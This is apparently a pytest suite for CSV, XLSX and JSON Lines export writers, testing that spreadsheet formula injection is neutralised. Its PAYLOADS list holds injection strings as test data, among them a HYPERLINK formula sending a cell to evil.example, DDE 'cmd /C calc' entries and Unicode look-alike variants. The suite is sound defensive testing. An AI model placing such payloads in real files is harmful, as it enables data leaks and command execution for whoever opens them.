"""Writers: CSV, XLSX and JSON Lines round-trip, stay inert in spreadsheets, stream."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Iterator
from typing import Any

import openpyxl
import pytest

from exports.tabular import Column, Table, TaggedRow
from exports.writers import (
    CsvWriter,
    JsonLinesWriter,
    UnknownFormatError,
    UnknownTableError,
    XlsxWriter,
    formats,
    get_writer,
    neutralise,
)

CASES = Table("cases", (Column("ref", "Reference"), Column("count", "Count"),
                        Column("share", "Share"), Column("ok", "Checked"),
                        Column("text", "Narrative")))
VIOLATIONS = Table("violations", (Column("ref", "Reference"), Column("article", "Article")))

ROWS: list[TaggedRow] = [
    ("cases", {"ref": "MY-2026-000001", "count": 3, "share": 0.25, "ok": True,
               "text": 'Quoted "words", commas,\nand a new line; 中文; عربي'}),
    ("violations", {"ref": "MY-2026-000001", "article": 21}),
    ("violations", {"ref": "MY-2026-000001", "article": 25}),
    ("cases", {"ref": "SG-2026-000001", "count": -5, "share": None, "ok": False, "text": ""}),
    ("violations", {"ref": "SG-2026-000001", "article": 11}),
]

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1", "=1+1",
            # full-width (U+FF1D, U+FF0B, U+FF0D, U+FF20) and small (U+FE66, U+FE62,
            # U+FE63, U+FE6B) forms, and the minus sign U+2212: read as = + - @
            '\uff1dHYPERLINK("http://evil.example/x","click")', "\uff0b1+cmd|' /C calc'!A0",
            "\uff0d2+3", "\uff20SUM(1,2)", "\ufe66HYPERLINK(1)", "\ufe621+1", "\ufe632+3",
            "\ufe6bSUM(1,2)", "\u22122+3", "\uff0d5"]


def written(writer: Any, rows: list[TaggedRow], tables: list[Table], **kw: Any) -> bytes:
    out = io.BytesIO()
    writer.write(iter(rows), tables, out, **kw)
    return out.getvalue()


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def archive(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as zipped:
        return {name: zipped.read(name) for name in zipped.namelist()}


def sheets(data: bytes) -> dict[str, list[tuple[Any, ...]]]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return {sheet.title: list(sheet.values) for sheet in book.worksheets}


def only(table: str) -> list[TaggedRow]:
    return [row for row in ROWS if row[0] == table]


# --- CSV ---------------------------------------------------------------------------


def test_csv__one_table__round_trips_through_csv_module() -> None:
    rows = csv_rows(written(CsvWriter(), only("cases"), [CASES]))
    assert rows[0] == ["Reference", "Count", "Share", "Checked", "Narrative"]
    assert rows[1] == ["MY-2026-000001", "3", "0.25", "true",
                       'Quoted "words", commas,\nand a new line; 中文; عربي']
    assert rows[2] == ["SG-2026-000001", "-5", "", "false", ""]


def test_csv__bom__only_when_asked() -> None:
    assert written(CsvWriter(bom=True), [], [CASES]).startswith(b"\xef\xbb\xbfReference")
    assert written(CsvWriter(), [], [CASES]).startswith(b"Reference")


def test_csv__two_tables__zip_with_one_file_each_and_notes() -> None:
    files = archive(written(CsvWriter(bom=True), ROWS, [CASES, VIOLATIONS],
                            notes=lambda: ["2 cases left out: no consent to statistics"]))
    assert set(files) == {"cases.csv", "violations.csv", "notes.txt"}
    assert files["cases.csv"].startswith(b"\xef\xbb\xbf")
    assert [r[0] for r in csv_rows(files["cases.csv"])[1:]] == ["MY-2026-000001",
                                                                 "SG-2026-000001"]
    assert csv_rows(files["violations.csv"])[1:] == [
        ["MY-2026-000001", "21"], ["MY-2026-000001", "25"], ["SG-2026-000001", "11"]]
    assert files["notes.txt"].decode() == "2 cases left out: no consent to statistics\n"


def test_csv__zero_rows__every_file_still_has_its_headers() -> None:
    files = archive(written(CsvWriter(), [], [CASES, VIOLATIONS]))
    assert csv_rows(files["cases.csv"]) == [list(CASES.labels)]
    assert csv_rows(files["violations.csv"]) == [list(VIOLATIONS.labels)]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv__formula_payload__starts_with_a_quote(payload: str) -> None:
    rows = csv_rows(written(CsvWriter(), [("cases", {"ref": "X", "text": payload})], [CASES]))
    assert rows[1][4] == "'" + payload


def test_csv__formula_in_a_header__neutralised_too() -> None:
    table = Table("cases", (Column("x", "=cmd|' /C calc'!A0"),))
    assert csv_rows(written(CsvWriter(), [], [table]))[0] == ["'=cmd|' /C calc'!A0"]


# --- XLSX --------------------------------------------------------------------------


def test_xlsx__two_sheets__round_trip_through_openpyxl() -> None:
    book = sheets(written(XlsxWriter(), ROWS, [CASES, VIOLATIONS]))
    assert list(book) == ["cases", "violations"]
    assert book["cases"][0] == CASES.labels
    assert book["cases"][1] == ("MY-2026-000001", 3, 0.25, True,
                                'Quoted "words", commas,\nand a new line; 中文; عربي')
    assert book["cases"][2] == ("SG-2026-000001", -5, None, False, None)
    assert book["violations"][1:] == [("MY-2026-000001", 21), ("MY-2026-000001", 25),
                                      ("SG-2026-000001", 11)]


def test_xlsx__zero_rows__sheets_with_headers_only() -> None:
    book = sheets(written(XlsxWriter(), [], [CASES, VIOLATIONS]))
    assert book == {"cases": [CASES.labels], "violations": [VIOLATIONS.labels]}


def test_xlsx__notes__on_a_last_sheet() -> None:
    book = sheets(written(XlsxWriter(), [], [CASES], notes=lambda: ["3 cases left out"]))
    assert book["notes"] == [("3 cases left out",)]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xlsx__formula_payload__stored_as_inert_text(payload: str) -> None:
    data = written(XlsxWriter(), [("cases", {"ref": "X", "text": payload})], [CASES])
    cell = openpyxl.load_workbook(io.BytesIO(data))["cases"]["E2"]
    # lxml keeps a carriage return (as &#13;); Python's own XML writer turns it into a
    # line feed: either way the cell is inert text
    assert cell.data_type == "s"
    assert cell.value in ("'" + payload, ("'" + payload).replace("\r", "\n"))


def test_xlsx__numbers__stay_numbers() -> None:
    data = written(XlsxWriter(), [("cases", {"count": -5, "share": -0.5, "text": "-12.5"})],
                   [CASES])
    sheet = openpyxl.load_workbook(io.BytesIO(data))["cases"]
    assert (sheet["B2"].data_type, sheet["B2"].value) == ("n", -5)
    assert (sheet["C2"].data_type, sheet["C2"].value) == ("n", -0.5)
    assert sheet["E2"].value == "-12.5"  # a signed number as text cannot run anything


def test_xlsx__control_characters__removed_before_neutralising() -> None:
    data = written(XlsxWriter(), [("cases", {"text": "\x01\x02=HYPERLINK(1)"})], [CASES])
    assert sheets(data)["cases"][1][4] == "'=HYPERLINK(1)"


def test_xlsx__past_the_row_limit__continues_on_a_new_sheet() -> None:
    rows = [("violations", {"ref": f"R{i}", "article": i}) for i in range(5)]
    book = sheets(written(XlsxWriter(max_sheet_rows=3), rows, [VIOLATIONS]))
    assert list(book) == ["violations", "violations (2)", "violations (3)"]
    assert [r[0] for s in book.values() for r in s[1:]] == [f"R{i}" for i in range(5)]
    assert all(s[0] == VIOLATIONS.labels for s in book.values())


def test_xlsx__sheets_filled_in_turn__rows_stay_in_their_own_sheet() -> None:
    def interleaved() -> Iterator[TaggedRow]:
        for i in range(200):
            yield "cases", {"ref": f"C{i}", "count": i}
            yield "violations", {"ref": f"C{i}", "article": i % 30}

    out = io.BytesIO()
    result = XlsxWriter().write(interleaved(), [CASES, VIOLATIONS], out)
    book = sheets(out.getvalue())
    assert result.rows == {"cases": 200, "violations": 200}
    assert [r[0] for r in book["cases"][1:]] == [f"C{i}" for i in range(200)]
    assert [r[1] for r in book["violations"][1:]] == [i % 30 for i in range(200)]


# --- JSON Lines --------------------------------------------------------------------


def test_jsonl__values_exact_keys_in_column_order() -> None:
    lines = written(JsonLinesWriter(), only("cases"), [CASES]).decode().splitlines()
    first = json.loads(lines[0])
    assert list(first) == list(CASES.keys)
    assert first["count"] == 3 and first["ok"] is True and first["text"].endswith("عربي")
    assert json.loads(lines[1])["share"] is None


def test_jsonl__no_spreadsheet__payload_kept_exactly() -> None:
    data = written(JsonLinesWriter(), [("cases", {"text": PAYLOADS[0]})], [CASES])
    assert json.loads(data)["text"] == PAYLOADS[0]


def test_jsonl__two_tables__zip_of_jsonl_files() -> None:
    files = archive(written(JsonLinesWriter(), ROWS, [CASES, VIOLATIONS]))
    assert [json.loads(x)["article"] for x in files["violations.jsonl"].splitlines()] == [
        21, 25, 11]
    assert files["notes.txt"] == b""


def test_jsonl__zero_rows__empty_file() -> None:
    assert written(JsonLinesWriter(), [], [CASES]) == b""


# --- shared ------------------------------------------------------------------------


@pytest.mark.parametrize("key", ["csv", "xlsx", "jsonl"])
def test_every_writer__row_for_unknown_table__refused(key: str) -> None:
    with pytest.raises(UnknownTableError):
        written(get_writer(key), [ROWS[0], ("elsewhere", {})], [CASES, VIOLATIONS])


@pytest.mark.parametrize("key", ["csv", "xlsx", "jsonl"])
def test_every_writer__failed_export__leaves_the_output_stream_open(key: str) -> None:
    out = io.BytesIO()
    with pytest.raises(UnknownTableError):
        get_writer(key).write(iter([ROWS[0], ("elsewhere", {})]), [CASES], out)
    assert not out.closed


def test_xlsx__failed_export__leaves_no_temporary_files() -> None:
    from openpyxl.worksheet._writer import ALL_TEMP_FILES

    before = set(ALL_TEMP_FILES)
    with pytest.raises(UnknownTableError):
        written(XlsxWriter(), [ROWS[0], ROWS[1], ("elsewhere", {})], [CASES, VIOLATIONS])
    assert set(ALL_TEMP_FILES) == before


@pytest.mark.parametrize("key", ["csv", "xlsx", "jsonl"])
def test_every_writer__counts_rows_per_table(key: str) -> None:
    result = get_writer(key).write(iter(ROWS), [CASES, VIOLATIONS], io.BytesIO(),
                                   notes=lambda: ["n"])
    assert result.rows == {"cases": 2, "violations": 3} and result.notes == ("n",)


def test_every_writer__leaves_the_output_stream_open() -> None:
    for key in formats():
        out = io.BytesIO()
        get_writer(key).write(iter(ROWS), [CASES, VIOLATIONS], out)
        assert not out.closed and out.getvalue()


def test_registry__formats_and_suffixes() -> None:
    assert formats() == ("csv", "xlsx", "jsonl")
    assert get_writer("csv").suffix([CASES]) == ".csv"
    assert get_writer("csv").suffix([CASES, VIOLATIONS]) == ".zip"
    assert get_writer("xlsx").suffix([CASES, VIOLATIONS]) == ".xlsx"
    assert get_writer("jsonl").media_type([CASES]).startswith("application/jsonl")


def test_registry__unknown_format__names_the_choices() -> None:
    with pytest.raises(UnknownFormatError, match="csv, xlsx, jsonl"):
        get_writer("pdf")


def test_tables__need_distinct_names() -> None:
    with pytest.raises(ValueError, match="share one name"):
        written(CsvWriter(), [], [CASES, CASES])


@pytest.mark.parametrize(("text", "expected"), [
    ("=1", "'=1"), ("safe", "safe"), ("", ""), ("-5", "-5"), ("+60123456789", "+60123456789"),
    ("+60 12-345 6789", "'+60 12-345 6789"), ("-1+2", "'-1+2"), ("1.5e3", "1.5e3"),
    ("\n=1", "'\n=1"), ("@x", "'@x"),
])
def test_neutralise(text: str, expected: str) -> None:
    assert neutralise(text) == expected


@pytest.mark.parametrize("text", ["Ｈｅｌｌｏ", "ー長音", "—em dash", "‐hyphen", "中文",
                                  "١٢٣", "«quoted»"])
def test_neutralise__other_non_ascii_starts__untouched(text: str) -> None:
    assert neutralise(text) == text
